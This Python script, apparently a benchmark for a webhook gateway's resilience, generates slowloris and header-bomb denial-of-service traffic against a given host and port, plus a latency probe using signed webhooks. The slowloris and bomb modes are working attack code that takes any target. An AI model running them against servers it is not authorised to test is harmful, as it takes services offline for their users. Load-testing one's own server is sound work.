#!/usr/bin/env python3
"""Attack traffic for scripts/bench-slowloris.sh; prints one `attack:` line of figures.

  http-attack.py slowloris HOST PORT SECONDS [CONNECTIONS]
      CONNECTIONS (500) connections that send a request line, then one header byte a second,
      never finishing the head; a connection the server closes is opened again at once.
  http-attack.py bomb HOST PORT SECONDS [CONNECTIONS]
      CONNECTIONS (4) loops that each send a 500-header head of about 100 KiB, read the
      answer and start again on a new connection.
  http-attack.py fresh HOST PORT SECONDS [RATE]
      Not an attack: RATE (20) signed chatwoot webhooks a second (secret "bench-secret"),
      each on a new connection, timed from connect to the whole answer: shows whether an
      attack delays accepting connections, which hookgate loadgen's kept-alive ones never see.

Standard library only (asyncio), so the benchmark needs nothing installed.
"""

import asyncio
import hashlib
import hmac
import json
import sys
import time
import uuid


class Figures:
    def __init__(self):
        self.opened = 0
        self.answers = {}  # status -> count
        self.json_answers = 0
        self.failed = 0  # connect errors, resets before an answer

    def answer(self, data):
        head, _, body = data.partition(b"\r\n\r\n")
        try:
            status = int(head.split(b" ", 2)[1])
        except (IndexError, ValueError):
            self.failed += 1
            return
        self.answers[status] = self.answers.get(status, 0) + 1
        if b"content-type: application/json" in head.lower():
            try:
                json.loads(body)
                self.json_answers += 1
            except ValueError:
                pass

    def line(self, mode, seconds):
        answers = " ".join(f"{s}={n}" for s, n in sorted(self.answers.items())) or "none"
        return (f"attack: mode={mode} connections_opened={self.opened} "
                f"per_s={self.opened / seconds:.0f} answers={answers} "
                f"json={self.json_answers} failed={self.failed}")


async def read_answer(reader, figures, limit):
    try:
        data = await asyncio.wait_for(reader.read(65536), timeout=limit)
        while data and b"\r\n\r\n" not in data:
            more = await asyncio.wait_for(reader.read(65536), timeout=limit)
            if not more:
                break
            data += more
        if data:
            # The rest of a short JSON body, if it came in a separate segment.
            try:
                more = await asyncio.wait_for(reader.read(65536), timeout=0.2)
                data += more
            except (asyncio.TimeoutError, OSError):
                pass
            figures.answer(data)
        else:
            figures.failed += 1
    except (asyncio.TimeoutError, OSError):
        figures.failed += 1


async def keep_connecting(host, port, deadline, figures, session):
    """Runs `session(reader, writer)` on one new connection after another until the deadline."""
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            figures.failed += 1
            await asyncio.sleep(0.1)
            continue
        figures.opened += 1
        try:
            await session(reader, writer)
        except OSError:
            pass
        finally:
            writer.close()


def slowloris(deadline, figures, i):
    async def session(reader, writer):
        writer.write(b"POST /webhooks/chatwoot HTTP/1.1\r\nHost: hookgate\r\nX-Slow-%d: " % i)
        await writer.drain()
        answered = asyncio.ensure_future(read_answer(reader, figures, 3600))
        while time.monotonic() < deadline and not answered.done():
            done, _ = await asyncio.wait({answered}, timeout=1.0)
            if done:
                break
            writer.write(b"a")
            await writer.drain()
        if not answered.done():
            answered.cancel()
    return session


def bomb(figures):
    head = b"POST /webhooks/chatwoot HTTP/1.1\r\nHost: hookgate\r\n"
    for i in range(500):
        head += b"X-Bomb-%03d: " % i + b"b" * 190 + b"\r\n"
    head += b"Content-Length: 2\r\n\r\n{}"

    async def session(reader, writer):
        writer.write(head)
        # The server answers after the 97th header and closes; the rest may not go out.
        try:
            await writer.drain()
        except OSError:
            pass
        await read_answer(reader, figures, 10)
    return session


async def fresh_one(host, port, figures, latencies):
    body = json.dumps({"event": "message_created", "id": str(uuid.uuid4()),
                       "account": {"id": 1}}).encode()
    ts = str(int(time.time()))
    mac = hmac.new(b"bench-secret", ts.encode() + b"." + body, hashlib.sha256).hexdigest()
    request = (b"POST /webhooks/chatwoot HTTP/1.1\r\nHost: hookgate\r\nConnection: close\r\n"
               b"Content-Type: application/json\r\nX-Chatwoot-Timestamp: %s\r\n"
               b"X-Chatwoot-Signature: sha256=%s\r\nContent-Length: %d\r\n\r\n%s"
               % (ts.encode(), mac.encode(), len(body), body))
    started = time.perf_counter()
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError:
        figures.failed += 1
        return
    figures.opened += 1
    try:
        writer.write(request)
        await writer.drain()
        answer = await asyncio.wait_for(reader.read(), timeout=30)
        latencies.append(time.perf_counter() - started)
        figures.answer(answer)
    except (asyncio.TimeoutError, OSError):
        figures.failed += 1
    finally:
        writer.close()


async def fresh(host, port, seconds, rate):
    figures, latencies, tasks = Figures(), [], []
    started = time.monotonic()
    for i in range(int(seconds * rate)):
        await asyncio.sleep(max(0.0, started + i / rate - time.monotonic()))
        tasks.append(asyncio.ensure_future(fresh_one(host, port, figures, latencies)))
    await asyncio.gather(*tasks)
    latencies.sort()

    def at(q):
        return latencies[min(len(latencies) - 1, int(q * len(latencies)))] * 1000 if latencies else 0

    print(f"fresh: p50_ms={at(0.5):.2f} p99_ms={at(0.99):.2f} max_ms={at(1.0):.2f} "
          + figures.line("fresh", seconds).removeprefix("attack: "), flush=True)


async def main():
    mode, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    if mode == "fresh":
        await fresh(host, port, seconds, float(sys.argv[5]) if len(sys.argv) > 5 else 20)
        return
    deadline = time.monotonic() + seconds
    figures = Figures()
    if mode == "slowloris":
        n = int(sys.argv[5]) if len(sys.argv) > 5 else 500
        sessions = [slowloris(deadline, figures, i) for i in range(n)]
    elif mode == "bomb":
        n = int(sys.argv[5]) if len(sys.argv) > 5 else 4
        sessions = [bomb(figures)] * n
    else:
        sys.exit(f"unknown mode {mode!r}: slowloris or bomb")
    await asyncio.gather(*(keep_connecting(host, port, deadline, figures, s) for s in sessions))
    print(figures.line(mode, seconds), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
